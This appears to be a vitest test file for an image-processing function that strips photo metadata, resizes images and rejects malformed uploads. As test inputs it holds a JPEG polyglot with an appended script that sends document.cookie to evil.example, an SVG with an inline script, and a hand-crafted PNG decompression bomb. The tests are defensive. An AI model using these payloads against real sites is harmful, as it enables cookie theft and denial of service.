import { crc32 } from 'node:zlib';
import sharp from 'sharp';
import { describe, expect, it } from 'vitest';
import { phonePhoto } from './fixtures';
import { processPhoto } from './process';

const code = (p: Promise<unknown>) =>
  p.then(
    () => 'ok',
    (e: { code?: string }) => e.code,
  );

describe('photo processing', () => {
  it('reads the GPS of a phone photo, then strips every byte of metadata', async () => {
    const input = await phonePhoto({ gps: { lat: 29.4053, lng: 105.5941 } });
    expect((await sharp(input).metadata()).exif).toBeDefined();
    const out = await processPhoto(input);
    expect(out.gps?.lat).toBeCloseTo(29.4053, 3);
    expect(out.gps?.lng).toBeCloseTo(105.5941, 3);
    const meta = await sharp(out.full).metadata();
    expect(meta.exif).toBeUndefined();
    expect(meta.format).toBe('jpeg');
    expect(out.sha256).toMatch(/^[0-9a-f]{64}$/);
  });

  it('shrinks a large photo to fit 1920 px and makes a small thumbnail; PNG and WebP are accepted', async () => {
    const big = await processPhoto(await phonePhoto({ width: 4000, height: 3000 }));
    expect([big.width, big.height]).toEqual([1920, 1440]);
    expect((await sharp(big.thumb).metadata()).width).toBe(320);
    const png = await sharp({ create: { width: 50, height: 50, channels: 3, background: 'red' } })
      .png()
      .toBuffer();
    const webp = await sharp({ create: { width: 50, height: 50, channels: 3, background: 'blue' } })
      .webp()
      .toBuffer();
    expect((await processPhoto(png)).width).toBe(50);
    expect((await processPhoto(webp)).width).toBe(50);
  });

  it('refuses what is not a photo, whatever its name: text, SVG with script, GIF, a truncated JPEG', async () => {
    expect(await code(processPhoto(Buffer.from('this is not an image, just named .jpg')))).toBe(
      'PHOTO_NOT_IMAGE',
    );
    const svg = Buffer.from('<svg xmlns="http://www.w3.org/2000/svg"><script>alert(1)</script></svg>');
    expect(await code(processPhoto(svg))).toBe('PHOTO_NOT_IMAGE');
    const gif = await sharp({ create: { width: 10, height: 10, channels: 3, background: 'red' } })
      .gif()
      .toBuffer();
    expect(await code(processPhoto(gif))).toBe('PHOTO_NOT_IMAGE');
    const jpeg = await phonePhoto();
    expect(await code(processPhoto(jpeg.subarray(0, 200)))).toBe('PHOTO_NOT_IMAGE');
  });

  it('a polyglot (a JPEG with a script riding after it) comes out as a clean JPEG without the script', async () => {
    const script = '<script>document.location="https://evil.example/"+document.cookie</script>';
    const polyglot = Buffer.concat([await phonePhoto(), Buffer.from(script)]);
    const out = await processPhoto(polyglot);
    expect(out.full.includes(Buffer.from('<script>'))).toBe(false);
    expect(out.thumb.includes(Buffer.from('<script>'))).toBe(false);
  });

  it('refuses an oversized file and a decompression bomb cleanly', async () => {
    const huge = Buffer.concat([Buffer.from([0xff, 0xd8, 0xff]), Buffer.alloc(20 * 1024 * 1024)]);
    expect(await code(processPhoto(huge))).toBe('PHOTO_TOO_LARGE');
    // A tiny PNG whose header claims 20000 × 20000 pixels.
    const bomb = await sharp({ create: { width: 1, height: 1, channels: 3, background: 'red' } })
      .png()
      .toBuffer();
    bomb.writeUInt32BE(20000, 16);
    bomb.writeUInt32BE(20000, 20);
    bomb.writeUInt32BE(crc32(bomb.subarray(12, 29)), 29);
    expect(bomb.length).toBeLessThan(1024 * 1024);
    expect(await code(processPhoto(bomb))).toBe('PHOTO_NOT_IMAGE');
  });
});
